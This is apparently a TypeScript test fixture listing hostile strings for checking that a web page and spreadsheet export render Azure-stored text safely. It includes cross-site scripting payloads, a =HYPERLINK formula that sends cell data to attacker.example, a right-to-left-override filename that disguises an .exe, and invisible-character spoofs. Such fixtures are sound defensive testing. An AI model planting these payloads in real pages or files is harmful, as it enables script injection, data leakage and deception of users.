/**
 * Texts that somebody may have written into Azure to run in a reader's browser or spreadsheet, to look like something
 * else, or to break a page. Each tells a page's `ran` who it is, so that a test sees what came to run.
 */
export const hostile = {
  image: (where: string) => `<img src=x onerror=ran(\`${where}\`)>`,
  script: (where: string) => `</script><script>ran(\`${where}\`)</script>`,
  handler: (where: string) => `"><svg onload=ran(\`${where}\`)>`,
  link: (where: string) => `javascript:ran(\`${where}\`)`,
  formula: '=HYPERLINK("https://attacker.example/?"&A1,"Open")',
  /** Reads `payexe.tset` where the override is obeyed. */
  turned: 'pay\u202etest.exe',
  /** Three that leave no mark: a zero width space, a soft hyphen, a letter that is blank. */
  unseen: 'pay\u200bment\u00ad\u3164',
  half: 'half \ud83d',
  long: (length = 10_240) => 'W'.repeat(length),
} as const;
